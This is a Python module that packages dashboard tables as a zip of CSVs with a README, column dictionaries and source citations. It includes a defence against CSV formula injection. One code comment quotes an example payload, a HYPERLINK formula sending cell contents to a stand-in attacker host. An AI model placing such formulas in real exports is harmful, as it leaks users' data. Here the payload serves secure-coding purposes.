"""The analyst's data package: the tables behind a view as CSV in a zip, with a README naming the
filters, the sources with citations and licences, the date and the link that reopens the view."""

import io
import re
import zipfile
from collections.abc import Sequence
from datetime import date

import pandas as pd

from components.provenance import source_line, used_sources, with_attribution
from data.catalog import column_dictionary

# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV injection"): a news title from a
# user's file such as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run when the download is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?")  # "-12.5" is a number to a spreadsheet, not a formula


def formula_safe(table: pd.DataFrame) -> pd.DataFrame:
    """The table as every download (CSV, Excel, zip) writes it: a text cell that a spreadsheet would run as a
    formula gets a leading apostrophe, so it is shown as the text it is. The table on screen is not changed."""
    safe = table
    for column in table.columns:
        values = table[column]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        is_formula = values.map(
            lambda value: isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
        ).astype(bool)
        if is_formula.any():
            safe = safe.copy() if safe is table else safe
            safe.loc[is_formula, column] = "'" + values[is_formula]
    return safe


def package_readme(
    tables: dict[str, pd.DataFrame],
    sources: pd.DataFrame,
    *,
    title: str,
    measure: str,
    filters: list[str],
    view_link: str | None,
    on: date,
    catalog_tables: Sequence[str] = (),
) -> str:
    ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
    lines = [
        title,
        "=" * len(title),
        "",
        f"Downloaded on {on.isoformat()} from the Asian labour migration dashboard.",
        "",
        f"What the figures are: {measure}",
        "",
        "Filters applied:",
    ]
    lines += [f"- {description}" for description in filters] or ["- none (all rows)"]
    if view_link:
        lines += ["", f"Reopen this view: {view_link}"]
    lines += ["", "Files:"] + [f"- {name}.csv ({len(table):,} rows)" for name, table in tables.items()]
    lines += ["- dictionary.csv: every column's meaning, unit and source" if len(tables) == 1 else
              "- <name>-dictionary.csv: every column's meaning, unit and source, per table"]  # fmt: skip
    lines += [
        "- sources.csv (publisher, dataset, edition, URL, licence and citation of every source used)",
        "",
        "Sources (cite them when you use these figures):",
    ]
    lines += [f"- [{row['source_id']}] {source_line(row)}" for _, row in used_sources(sources, ids).iterrows()]
    lines += ["", "Missing values are empty cells: the publisher gives no figure (not zero)."]
    for name, table in tables.items():
        lines += ["", f"Columns of {name}.csv (also as a CSV file, the dictionary): column (label) - meaning [unit]"]
        lines += [
            f"- {entry['column']} ({entry['label']}) - {entry['meaning']} [{entry['unit']}]"
            for entry in column_dictionary(with_attribution(table, sources).columns, catalog_tables)
        ]
    return "\n".join(lines) + "\n"


def package_bytes(
    tables: dict[str, pd.DataFrame],
    sources: pd.DataFrame,
    *,
    title: str,
    measure: str,
    filters: list[str],
    view_link: str | None = None,
    on: date | None = None,
    catalog_tables: Sequence[str] = (),
) -> bytes:
    on = on or date.today()
    ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "README.txt",
            package_readme(
                tables, sources, title=title, measure=measure, filters=filters, view_link=view_link, on=on,
                catalog_tables=catalog_tables,
            ),
        )  # fmt: skip
        for name, table in tables.items():
            shipped = with_attribution(table, sources)
            archive.writestr(f"{name}.csv", formula_safe(shipped).to_csv(index=False))
            dictionary = pd.DataFrame(column_dictionary(shipped.columns, catalog_tables))
            archive.writestr(
                "dictionary.csv" if len(tables) == 1 else f"{name}-dictionary.csv", dictionary.to_csv(index=False)
            )
        archive.writestr("sources.csv", formula_safe(used_sources(sources, ids)).to_csv(index=False))
    return buffer.getvalue()
